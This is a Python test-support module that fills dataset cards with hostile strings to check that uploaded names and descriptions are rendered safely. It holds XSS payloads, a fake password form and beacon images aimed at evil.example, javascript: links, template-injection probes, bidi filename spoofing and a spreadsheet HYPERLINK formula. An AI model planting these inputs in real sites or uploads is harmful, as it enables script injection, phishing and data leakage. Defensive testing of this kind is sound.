"""What an uploader may write into a name or a description to do harm where it is shown."""

from __future__ import annotations

from pathlib import Path

from tests.support import cards

EVIL = "https://evil.example"

STRINGS = {
    "script": "<script>window.__x=1</script>",
    "handler": "<img src=x onerror=\"window.__x=2\"><svg onload='window.__x=3'>",
    "frame": f"<iframe srcdoc=\"<script>parent.__x=4</script>\"></iframe><iframe src='{EVIL}/frame'></iframe>",
    "style": "<style>body{display:none}</style><h1 style='position:fixed;inset:0'>owned</h1>",
    "form": f"<form action='{EVIL}/form'><input name=password><button>Sign in</button></form>",
    "image": f"![beacon]({EVIL}/beacon.png) ![]({EVIL}/b.svg 'x')",
    "reference": f"[a][r] ![b][r]\n\n[r]: {EVIL}/reference.png",
    "link": f"[free download]({EVIL}/download) <{EVIL}/auto> www.evil.example/bare {EVIL}/naked",
    "javascript": "[click](javascript:window.__x=5) [data](data:text/html;base64,PHNjcmlwdD4=)",
    "badge": ":green-badge[:material/verified: verified] :red[alarm] :material/verified: :rainbow[x]",
    "emoji": ":smile: :sunglasses: -> <- -- :warning:",
    "heading": "# heading\n## second\n> quote\n- item\n1. one\n| a | b |\n|---|---|\n| c | d |",
    "fence": "```mermaid\ngraph TD; A-->B\n``` `code` ~~~ <!-- -->",
    "latex": "$x^2$ $$\\href{javascript:window.__x=6}{y}$$ \\(z\\) \\[w\\]",
    "template": "{{7*7}} ${7*7} %{customdata[0]} {% raw %} #{7}",
    "plotly": f"<a href='{EVIL}/plotly'>go</a> <b>bold</b> <br><span style='color:red'>s</span>",
    "bidi": "safe\u202egnp.exe\u202c \u2066inner\u2069 \u200eend",
    "control": "bell\x07 escape\x1b[31m null\x00 delete\x7f tab\tend",
    "formula": '=HYPERLINK("https://evil.example/cell","click")',
    "long": "x" * 3_000,
    "quotes": "\"'`\\ &amp; &lt;b&gt; &#x3c;i&#x3e;",
    "unicode": "Ünïcödé 医学 한국어 العربية 🩺 ｆｕｌｌ",
}

ALL = " ".join(STRINGS[name] for name in STRINGS if name != "long")
VISIBLE = {
    # YAML and one-line cells keep no control characters: what is left of the others must be read as it was written.
    name: text
    for name, text in STRINGS.items()
    if name in ("script", "handler", "image", "link", "badge", "latex", "template", "plotly", "formula", "emoji")
}


def slug(name: str) -> str:
    return f"hostile-{name}"


def write(folder: Path) -> Path:
    """A card per string, with the string in every field that takes free text; one with all; one listed; one finding."""
    for name, text in STRINGS.items():
        card(folder, slug(name), text)
    card(folder, slug("all"), ALL)
    cards.dataset(
        folder, "harmless-ro", name="Harmless Romanian QA", summary="Întrebări despre oncologie.", languages=["ro"]
    )
    cards.listed(
        folder,
        {
            "slug": "hostile-listed",
            "name": f"Listed {ALL}"[:900],
            "homepage": f"{EVIL}/listed?a=<b>&c=![x](y)",
            "licence_raw": ALL,
            "topics": [ALL],
            "modality_details": [ALL],
            "size": {"unit": ALL, "note": ALL},
            "read_in": [ALL],
            "confidence": "low",
        },
    )
    return folder


def card(folder: Path, slug: str, text: str) -> None:
    cards.dataset(
        folder,
        slug,
        name=f"{slug} {text}",
        aliases=[f"alias of {slug} {text}"],
        summary=text,
        homepage=f"{EVIL}/home/{slug}/![x](y)<b>'\"",
        paper={"title": text, "venue": text, "year": 2025, "url": f"{EVIL}/paper/{slug}?<script>"},
        sources=[
            {
                "provider": "web",
                "url": f"{EVIL}/place/{slug}",
                "role": "official",
                "note": text,
                "revision": text[:200],
            },
            {"provider": "web", "url": f"ftp://evil.example/{slug}", "role": "mirror", "note": text},
        ],
        access="request",
        access_note=text,
        licence={"data": "CC-BY-NC-4.0", "stated_in": text, "note": text},
        size={
            "examples": 3,
            "unit": text,
            "splits": {text: 1, "b": 2},
            "parts": {text: {text: 3}},
            "as_of": text,
            "note": text,
        },
        files=[{"path": text, "format": "csv", "note": text, "columns": [text]}, {"url": f"{EVIL}/file", "note": text}],
        example={text: text, "nested": [text]},
        derived_from=[{"dataset": "medqa", "note": text}],
        notes=[text],
        read_in=[text],
        unsure=[text],
    )
    cards.finding(
        folder,
        f"{slug}-finding",
        datasets=[slug],
        statement=text,
        effect=text,
        paper={"title": text, "year": 2025, "url": f"{EVIL}/finding/{slug}"},
    )
